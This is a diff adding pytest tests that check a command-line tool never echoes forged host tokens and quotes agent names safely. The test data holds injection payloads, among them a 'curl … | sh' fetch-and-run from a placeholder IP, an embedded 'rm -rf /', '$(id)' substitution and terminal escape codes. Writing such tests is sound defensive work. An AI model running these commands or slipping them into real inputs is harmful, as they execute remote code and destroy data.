@@ -65,6 +65,26 @@ def test_manager_without_tls_is_named_with_http(
     assert line(manager, scheme="http") in capsys.readouterr().err
 
 
+FORGED = ["nqr_x; curl http://192.0.2.1/x | sh #", "nqr_x\x1b[2K", "nqr_x\nrm -rf /", "", "nqr_x.$(id)", f"nqr_x.{FINGERPRINT}0"]
+
+
+@pytest.mark.parametrize("terminal", [True, False])
+@pytest.mark.parametrize("forged", FORGED)
+def test_nothing_of_a_forged_token_is_shown(
+    manager: Manager, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, forged: str, terminal: bool
+) -> None:
+    monkeypatch.setattr(sys.stdout, "isatty", lambda: terminal)
+    monkeypatch.setattr(Hosts, "token", forged)
+    assert run(["host", "token", "h2"]) == 1
+    shown = capsys.readouterr()
+    assert shown.out == "" and "NQR-USE-043" in shown.err and "nqr_x" not in shown.err
+
+
+def test_the_name_is_one_word_of_the_line(manager: Manager, capsys: pytest.CaptureFixture[str]) -> None:
+    assert run(["host", "token", "h2;\x1b[2K id"]) == 0
+    assert "--agent-name 'h2;\ufffd[2K id' --manager-url" in capsys.readouterr().err
+
+
 @pytest.mark.parametrize(
     ("given", "bind", "found"),
     [
